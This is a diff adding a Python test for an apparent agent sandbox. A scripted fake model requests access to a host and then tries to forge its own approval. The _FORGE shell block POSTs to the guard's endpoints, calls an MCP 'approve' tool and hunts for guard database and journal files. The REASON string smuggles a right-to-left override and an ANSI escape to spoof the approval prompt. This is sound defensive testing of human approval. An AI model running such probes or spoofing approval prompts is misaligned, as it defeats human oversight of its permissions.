@@ -1,0 +1,153 @@
+"""The real Claude Code asks a person for a host, and gets it only then: `python -m … BACKEND FOLDER`.
+
+It runs in namespaces of its own, on the host of the lab of tests/leaks: the canaries' own log tells what has reached
+them. Prints one JSON object.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import socket
+import subprocess
+import sys
+import threading
+import time
+from collections.abc import Mapping
+from contextlib import ExitStack
+from pathlib import Path
+from typing import Any
+
+from benchmarks.docker_engine import NoEngine, started_engine
+from claude_bottle import state
+from claude_bottle.bottles import Bottles
+from claude_bottle.manifest import load
+from tests.chat_hosts.model_api import Call, Model, Story, served
+from tests.leaks.guests import Workspaces
+from tests.leaks.lab import Lab, knock, settle
+from tests.leaks.world import OTHER
+
+KEY = "sk-ant-the-real-value-0123456789"
+REASON = "to install\u202e it \x1b[31mnow"
+_SECONDS = 120.0
+# All ways from the guest to whoever approves: the guard's other ports and paths, tools that do not exist, its files.
+_FORGE = """
+for way in guard.bottle.internal:8080/ guard.bottle.internal/ guard.bottle.internal/approve/r1 git.bottle.internal/ \
+  10.0.2.2/ 10.0.2.3/ 127.0.0.1/ page.bottle.internal/; do curl -sS --max-time 5 -X POST "http://$way"; echo; done
+curl -sS --max-time 9 -H 'Accept: application/json, text/event-stream' -H 'Content-Type: application/json' \
+  -d '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"approve","arguments":{"request":"r1"}}}' \
+  http://guard.bottle.internal/mcp; echo
+find / -xdev \\( -name guard.db\\* -o -name supervisor -o -name journal.jsonl \\) -not -path '/proc/*' 2>/dev/null
+echo forged
+"""
+
+
+def fetch(token: str) -> Call:
+    return Call("Bash", {"command": f"curl -sS --max-time 9 http://other.test/{token}; echo", "description": "fetch"})
+
+
+def story(told: dict[str, Any], waiting: threading.Event) -> Story:
+    """Try the host, ask for it, try to approve it alone, wait for the person, and try the host again."""
+    told["refused"] = yield fetch("token-before")
+    asked = yield Call("request_capability", {"kind": "host", "host": "other.test:80", "reason": REASON})
+    told["asked"] = asked
+    told["forged"] = yield Call("Bash", {"command": _FORGE, "description": "look around"})
+    told["still"] = yield Call("capability_status", {"request": "r1"})
+    yield fetch("token-forged")
+    waiting.set()
+    told["decided"] = yield Call("capability_status", {"request": "r1", "wait_seconds": 50})
+    told["reached"] = yield fetch("token-after")
+    return "I have what I need."
+
+
+def command(*words: str) -> Any:
+    """Run `claude-bottle`, as a person does, and return what it prints as JSON."""
+    argv = [sys.executable, "-m", "claude_bottle.cli", *words, "--json"]
+    return json.loads(subprocess.run(argv, check=True, capture_output=True, text=True, timeout=60).stdout)
+
+
+def tokens(lab: Lab, wanted: str = "") -> list[str]:
+    """Return which tokens have come to a canary since the last call; wait a few seconds for `wanted`."""
+    found: set[str] = set()
+    end = time.monotonic() + 5
+    settle()
+    while True:
+        seen = " ".join(str(one.get("data")) for one in lab.arrivals())
+        found |= {token for token in ("token-before", "token-forged", "token-after", "alive") if token in seen}
+        if not wanted or wanted in found or time.monotonic() > end:
+            return sorted(found)
+        time.sleep(0.01)  # the canaries are asked, they do not tell
+
+
+def _alive(lab: Lab) -> bool:
+    """Return whether the canary notices what this host sends; it may have begun to look only after the first try."""
+    for _ in range(3):
+        knock("tcp", OTHER, 80, "alive")
+        if tokens(lab, "alive"):
+            return True
+    return False
+
+
+def launch(folder: Path, backend: str, api: str) -> Bottles:
+    bottle: Mapping[str, Any] = {
+        "egress": [{"host": "api.anthropic.com", "upstream": api}],
+        "supervise": True,
+        **({} if backend == "docker" else {"accelerator": os.environ["PYRO_ACCELERATOR"]}),
+    }
+    path = folder / "bottles.json"
+    path.write_text(json.dumps({"bottles": {"b": bottle}, "agents": {"tester": {"bottle": "b"}}}))
+    return Bottles(folder=folder, manifest=load(file=path))
+
+
+def run(lab: Lab, backend: str, folder: Path) -> dict[str, Any]:
+    told: dict[str, Any] = {}
+    waiting = threading.Event()
+    model = Model(story(told, waiting))
+    with socket.create_server(("127.0.0.1", 0)) as listening, served(model, listening) as api:
+        bottles = launch(folder, backend, api)
+        told["alive"] = _alive(lab)
+        slug = bottles.run("tester", backend=backend, args=("-p", "get what you need"))["slug"]
+        try:
+            told["waited"] = waiting.wait(_SECONDS)
+            told["arrived_before"] = tokens(lab)
+            told["pending"] = command("pending")["requests"]
+            began = time.monotonic()
+            command("approve", told["pending"][0]["reference"])
+            told["ended"] = _ended(bottles, slug)
+            told["seconds"] = time.monotonic() - began
+            told["output"] = bottles.logs(slug)["output"]
+            told["arrived_after"] = tokens(lab, "token-after")
+        finally:
+            bottles.stop(slug)
+    told["failure"], told["closing"] = model.failure and str(model.failure), model.closing
+    told["journal"] = [[one["kind"], one["decision"], one["who"]] for one in command("audit")["entries"]]
+    told["left"] = [*state.slugs(), *(path.name for path in state.bottles_home().iterdir())]
+    return told
+
+
+def _ended(bottles: Bottles, slug: str) -> bool:
+    """Wait until the agent has ended: nothing tells the commands of another process when."""
+    end = time.monotonic() + _SECONDS
+    while bottles.status(slug)["exit_code"] is None:
+        if time.monotonic() > end:
+            return False
+        time.sleep(0.2)
+    return True
+
+
+def main() -> None:
+    backend, folder = sys.argv[1], Path(sys.argv[2])
+    os.environ["ANTHROPIC_API_KEY"] = KEY
+    with ExitStack() as stack:
+        try:
+            if backend == "docker":
+                os.environ["DOCKER_HOST"] = stack.enter_context(started_engine(in_memory=True))
+            lab = stack.enter_context(Lab(folder, Workspaces()).running())
+            told: dict[str, Any] | None = run(lab, backend, folder)
+        except NoEngine:
+            told = None
+    print(json.dumps(told))  # noqa: T201
+
+
+if __name__ == "__main__":
+    main()
